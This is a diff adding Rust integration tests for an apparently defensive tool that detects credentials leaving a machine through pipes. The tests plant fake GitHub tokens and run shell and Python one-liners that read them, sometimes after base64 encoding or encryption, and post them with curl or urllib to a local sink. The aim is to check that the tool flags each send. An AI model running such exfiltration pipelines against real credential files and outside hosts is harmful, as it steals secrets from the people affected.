@@ -1,0 +1,260 @@
+//! What is passed on through pipes: seen where the secret's own bytes leave, lineage with the way where they do not.
+
+use super::{count, goes_to, sent};
+use crate::{
+    agent::Agent,
+    command::{Done, act, sh},
+    events::{Ask as _, Event, list, of_kind},
+    machine::{Scratch, patience, turn, wait_for},
+    plant,
+    server::Sink,
+};
+use keytrail_model::LineageBasis;
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
+
+/// A file with a token of GitHub, in a place that is watched or in one that nobody named.
+fn key(scratch: &Scratch, place: &str) -> (plant::Planted, PathBuf) {
+    let token = plant::github();
+    let file = scratch.join(place);
+    fs::create_dir_all(file.parent().unwrap()).unwrap();
+    fs::write(&file, format!("{{\"GITHUB_TOKEN\":\"{}\"}}\n", token.value)).unwrap();
+    (token, file)
+}
+
+/// Names of the programs on the way, and how it came to each.
+fn way(event: &Event) -> Vec<(String, String)> {
+    let path = &event.evidence.as_ref().unwrap().path;
+    path.iter()
+        .map(|step| {
+            let program = step.executable.rsplit('/').next().unwrap_or("");
+            (step.how.clone(), program.to_owned())
+        })
+        .collect()
+}
+
+/// The programs alone.
+fn programs(event: &Event) -> Vec<String> {
+    way(event).into_iter().map(|(_, program)| program).collect()
+}
+
+/// Runs a script with the key's file and the sink's address.
+fn run(script: &str, file: &Path, sink: &Sink) -> Done {
+    sh(script)
+        .arg(file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .run()
+        .ok()
+}
+
+/// Fails unless one send is told, and the secret was seen in it.
+fn is_seen(agent: &Agent, done: &Done, by: &str, file: &Path, script: &str) {
+    let sent = sent(agent, done.pid);
+    count(&sent, 1, script);
+    let text = format!("{script}\n{}", sent[0].brief());
+    assert_eq!(sent[0].grade(), "observed", "{text}");
+    assert!(sent[0].executable().ends_with(by), "{text}");
+    assert_eq!(sent[0].path(), file.to_str().unwrap(), "{text}");
+    let source = sent[0].source.as_ref().unwrap();
+    assert!(!source.inherited_from.is_empty(), "{text}");
+    let path = &sent[0].evidence.as_ref().unwrap().path;
+    assert_eq!(path[0].how, "read", "{text}\n{path:?}");
+    assert!(path.len() >= 2, "{text}\n{path:?}");
+    assert_eq!(path.last().unwrap().pid, sent[0].pid(), "{text}\n{path:?}");
+}
+
+/// At once and with pauses of a second anywhere, as it is and in base64, by programs and by a shell's own commands; from
+/// a file that is watched, and from one that nobody has named.
+pub fn seen_at_the_end_of_a_pipeline() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let scripts = [
+        "cat \"$1\" | curl -s -d @- \"$2\"; :",
+        "(sleep 1; cat \"$1\") | curl -s -d @- \"$2\"; :",
+        "cat \"$1\" | (sleep 1; curl -s -d @- \"$2\"); :",
+        "cat \"$1\" | (sleep 1; cat) | curl -s -d @- \"$2\"; :",
+        "base64 -w 0 \"$1\" | curl -s -d @- \"$2\"; :",
+        "(sleep 1; cat \"$1\"; sleep 1) | curl -s -d @- \"$2\"; :",
+        "jq -c . \"$1\" | (sleep 1; jq -c .) | curl -s -d @- \"$2\"; :",
+        "(sleep 1; x=$(cat \"$1\"); printf %s \"$x\") | curl -s -d @- \"$2\"; :",
+        "x=$(cat \"$1\"); printf %s \"$x\" | curl -s -d @- \"$2\"; :",
+        "cat \"$1\" | while read -r line; do echo \"$line\"; done | curl -s -d @- \"$2\"; :",
+    ];
+    for place in ["home/key.json", "elsewhere/key"] {
+        let file = scratch.join(place);
+        let done: Vec<_> = std::thread::scope(|scope| {
+            let running: Vec<_> = (0..scripts.len())
+                .map(|n| {
+                    let (_, file) = key(&scratch, &format!("{}{n}.json", file.display()));
+                    let (script, sink) = (scripts[n], &sink);
+                    scope.spawn(move || (run(script, &file, sink), file))
+                })
+                .collect();
+            running.into_iter().map(|r| r.join().unwrap()).collect()
+        });
+        agent.settle();
+        for ((done, file), script) in done.iter().zip(scripts) {
+            is_seen(&agent, done, "/curl", file, script);
+        }
+    }
+}
+
+/// What is packed and encrypted on its way is lineage, with all who had it in hand.
+pub fn encrypted_on_its_way() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::silent();
+    let agent = Agent::start(&scratch);
+    let (token, file) = key(&scratch, "home/key.json");
+    let script = "tar cz -C \"${1%/*}\" key.json | (sleep 1; openssl enc -aes-256-cbc -pbkdf2 -pass file:/proc/version) | \
+        curl -sm 3 -T - \"$2\"; :";
+    let done = run(script, &file, &sink);
+    agent.settle();
+    let sent = sent(&agent, done.pid);
+    count(&sent, 1, "sends");
+    let text = sent[0].brief();
+    assert!(!sink.has(&token.value));
+    assert_eq!(sent[0].grade(), "lineage", "{text}");
+    assert_eq!(
+        sent[0].evidence.as_ref().unwrap().lineage_basis,
+        LineageBasis::Passed.number(),
+        "{text}"
+    );
+    let step = |how: &str, program: &str| (how.to_owned(), program.to_owned());
+    assert_eq!(
+        way(&sent[0]),
+        [
+            step("read", "tar"),
+            step("pipe", "openssl"),
+            step("pipe", "curl")
+        ],
+        "{text}"
+    );
+    goes_to(&sent[0], &["127.0.0.1"], sink.port);
+}
+
+/// Python starts the client first and reads the key later; and it takes what a child of it has read.
+pub fn fed_and_taken_by_python() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let url = format!("http://127.0.0.1:{}/in", sink.port);
+    let python = |script: &str, file: &Path| {
+        let python = act("python3").args(["-c", script]);
+        python.arg(file).arg(&url).run().ok()
+    };
+    let (_, file) = key(&scratch, "home/fed.json");
+    let script = "import subprocess, sys, time
+curl = subprocess.Popen(['curl', '-s', '-d', '@-', sys.argv[2]], stdin=subprocess.PIPE)
+time.sleep(1)
+curl.stdin.write(open(sys.argv[1], 'rb').read())
+time.sleep(1)
+curl.communicate()";
+    let fed = python(script, &file);
+    let (_, other) = key(&scratch, "home/taken.json");
+    let script = "import subprocess, sys, time, urllib.request
+loot = subprocess.check_output(['cat', sys.argv[1]])
+time.sleep(1)
+urllib.request.urlopen(sys.argv[2], loot)";
+    let taken = python(script, &other);
+    agent.settle();
+    is_seen(&agent, &fed, "/curl", &file, "fed");
+    let by = sent(&agent, taken.pid);
+    let path = by.first().map(programs).unwrap_or_default();
+    assert_eq!(path.len(), 2, "{path:?}\n{}", list(&by));
+    assert_eq!(by[0].pid(), taken.pid, "{}", list(&by));
+    assert_eq!(
+        (by[0].grade(), path[0].as_str()),
+        ("observed", "cat"),
+        "{}",
+        list(&by)
+    );
+}
+
+/// git asks its helper, which reads the file; git sends what it was told.
+pub fn a_helper_of_git() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let server = "import http.server, sys
+class Asks(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        known = 'Authorization' in self.headers
+        self.send_response(404 if known else 401)
+        self.send_header('WWW-Authenticate', 'Basic realm=\"git\"')
+        self.send_header('Content-Length', '0')
+        self.end_headers()
+server = http.server.HTTPServer(('127.0.0.1', 0), Asks)
+open(sys.argv[1], 'w').write(str(server.server_port))
+server.serve_forever()";
+    let told = scratch.join("port");
+    let _server = act("python3").args(["-c", server]).arg(&told).spawn();
+    let port: u16 = wait_for("the server", patience(20), || {
+        fs::read_to_string(&told).ok()?.parse().ok()
+    });
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let store = scratch.make("home").join(".git-credentials");
+    fs::write(
+        &store,
+        format!("http://bot:{}@127.0.0.1%3a{port}\n", token.value),
+    )
+    .unwrap();
+    let git = act("git")
+        .arg("-c")
+        .arg(format!(
+            "credential.helper=store --file={}",
+            store.display()
+        ))
+        .arg("ls-remote")
+        .arg(format!("http://127.0.0.1:{port}/shop/orders.git"))
+        .env("GIT_TERMINAL_PROMPT", "0")
+        .run();
+    agent.settle();
+    let sent = sent(&agent, git.pid);
+    let seen: Vec<&Event> = sent.iter().filter(|e| e.grade() == "observed").collect();
+    assert!(!seen.is_empty(), "{}", list(&agent.tree(git.pid)));
+    let text = seen[0].brief();
+    assert!(seen[0].executable().contains("git-remote-http"), "{text}");
+    assert_eq!(seen[0].path(), store.to_str().unwrap(), "{text}");
+    goes_to(seen[0], &["127.0.0.1"], port);
+}
+
+/// What holds no secret goes through pipes without a word, and so does what commands of a holder write that only have
+/// its environment.
+pub fn nothing_of_a_holder_in_it() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let public = scratch.join("public.txt");
+    fs::write(&public, "nothing of interest to anybody at all\n").unwrap();
+    let cat = run(
+        "cat \"$1\" | (sleep 1; cat) | curl -s -d @- \"$2\"; :",
+        &public,
+        &sink,
+    );
+    let ls = sh("ls / | env -u GITHUB_TOKEN curl -s -d @- \"$1\"; :")
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .env("GITHUB_TOKEN", plant::github().value)
+        .run()
+        .ok();
+    // A pipeline beside that of a holder, of the same shell.
+    let (_, file) = key(&scratch, "home/key.json");
+    let beside = run(
+        "cat \"$1\" | cat >/dev/null; ls / | curl -s -d @- \"$2\"; :",
+        &file,
+        &sink,
+    );
+    assert!(sink.has("nothing of interest"));
+    agent.settle();
+    for (done, reads) in [(&cat, 0), (&ls, 0), (&beside, 1)] {
+        let events = agent.tree(done.pid);
+        count(&of_kind(&events, "credential_sent"), 0, "sends");
+        count(&of_kind(&events, "credential_read"), reads, "reads");
+    }
+}
